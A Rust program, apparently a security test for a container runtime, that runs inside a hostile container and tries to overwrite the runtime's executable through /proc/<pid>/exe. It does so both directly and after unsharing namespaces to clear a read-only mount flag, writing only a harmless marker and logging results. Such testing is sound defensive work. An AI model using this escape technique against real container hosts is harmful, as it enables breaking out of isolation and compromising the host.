//! What runs inside a hostile container: tries to write to the runtime's program through /proc.
//!
//! It looks for a process whose program lies on another file system than the container's own, takes
//! hold of that file without opening it, and tries to open it for writing once nobody executes it; as
//! it is, and again from a user and mount namespace of its own with the mount's read-only flag cleared.
//! As the control of the second attack it also runs outside: `run-read-only` executes a program from a
//! detached read-only bind mount, the defence that does not hold.
//!
//! It says on standard output and in /report/said what it has seen and done: `saw`, `cleared`, `WROTE`.

use std::collections::BTreeSet;
use std::fs::OpenOptions;
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use coracle_sys::mount_attr::{Change, Depth, Flag};
use coracle_sys::namespaces::{Namespace, Namespaces, unshare};
use rustix::fs::{Mode, OFlags};
use rustix::mount::{OpenTreeFlags, open_tree};

/// Whoever is attacked ends the attack by this file of the volume.
const STOP: &str = "/report/stop";

/// What is written into the program: enough to see, too little to break it.
const MARK: &[u8] = b"written by a container";

fn main() {
    let arguments: Vec<String> = std::env::args().collect();
    let seconds = |place: usize| {
        let text = arguments.get(place).map_or("", String::as_str);
        Duration::from_secs(text.parse().unwrap_or(5))
    };
    // Standard input is the file, held by O_PATH.
    match arguments.get(1).map(String::as_str) {
        Some("write") => write("plainly", seconds(2)),
        Some("clear-and-write") => clear_and_write(seconds(2)),
        Some("run-read-only") => run_read_only(&arguments[2..]),
        _ => search(seconds(1)),
    }
}

fn say(words: &str) {
    // The attack outlives whoever reads its output, so it is told to a volume too.
    let _ = writeln!(std::io::stdout(), "{words}");
    let report = OpenOptions::new().create(true).append(true).open("/report/said");
    let _ = report.and_then(|mut report| report.write_all(format!("{words}\n").as_bytes()));
}

fn goes_on(begin: Instant, time: Duration) -> bool {
    begin.elapsed() < time && !Path::new(STOP).exists()
}

/// Each program that is seen is attacked by children of its own, while the search goes on.
fn search(time: Duration) {
    let own = rustix::fs::stat("/").map(|stat| stat.st_dev).unwrap_or_default();
    let begin = Instant::now();
    let mut seen = BTreeSet::new();
    let mut children = Vec::new();
    while goes_on(begin, time) {
        let Ok(entries) = std::fs::read_dir("/proc") else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path().join("exe");
            let Ok(file) = rustix::fs::open(&path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else {
                continue;
            };
            let Ok(stat) = rustix::fs::fstat(&file) else {
                continue;
            };
            if stat.st_dev == own || !seen.insert((stat.st_dev, stat.st_ino)) {
                continue;
            }
            say(&format!("saw {} {}", stat.st_dev, stat.st_ino));
            let left = time.saturating_sub(begin.elapsed()).as_secs().to_string();
            for attack in ["write", "clear-and-write"] {
                let Ok(copy) = file.try_clone() else { continue };
                let child = Command::new("/proc/self/exe")
                    .args([attack, &left])
                    .stdin(Stdio::from(copy))
                    .spawn();
                children.extend(child);
            }
        }
    }
    for mut child in children {
        let _ = child.wait();
    }
    say("done");
}

/// Tries for a while, as a program that is being executed is busy (ETXTBSY).
fn write(how: &str, time: Duration) {
    let about = rustix::fs::fstat(std::io::stdin().as_fd());
    let file = about
        .map(|about| format!("{} {}", about.st_dev, about.st_ino))
        .unwrap_or_default();
    let begin = Instant::now();
    let mut errors = BTreeSet::new();
    while goes_on(begin, time) {
        let opened = OpenOptions::new().append(true).open("/proc/self/fd/0");
        match opened.and_then(|mut file| file.write_all(MARK)) {
            Ok(()) => return say(&format!("WROTE {how} {file}")),
            Err(error) => {
                if errors.insert(error.to_string()) {
                    say(&format!("refused {how} {file}: {error}"));
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
}

fn clear_and_write(time: Duration) {
    let file = std::io::stdin();
    let spaces = Namespaces::NONE.with(Namespace::User).with(Namespace::Mount);
    if let Err(error) = unshare(spaces) {
        say(&format!("no namespaces: {error}"));
    }
    match Change::new()
        .clear(Flag::ReadOnly)
        .apply(file.as_fd(), Depth::This)
    {
        Ok(()) => say("cleared"),
        Err(error) => say(&format!("not cleared: {error}")),
    }
    write("after clearing", time);
}

/// Becomes a program that lies on a read-only bind mount of its own, as weak as the attacker.
fn run_read_only(arguments: &[String]) {
    let Some((program, arguments)) = arguments.split_first() else {
        return say("which program?");
    };
    let flags = OpenTreeFlags::OPEN_TREE_CLONE;
    let mount = match open_tree(rustix::fs::CWD, program.as_str(), flags) {
        Ok(mount) => mount,
        Err(error) => return say(&format!("no mount: {error}")),
    };
    if let Err(error) = Change::new()
        .set(Flag::ReadOnly)
        .apply(mount.as_fd(), Depth::This)
    {
        return say(&format!("not read-only: {error}"));
    }
    let error = Command::new("setpriv")
        .args(["--inh-caps=-all", "--bounding-set=-all", "--"])
        .arg(format!("/proc/self/fd/{}", mount.as_raw_fd()))
        .args(arguments)
        .exec();
    say(&format!("setpriv: {error}"));
}
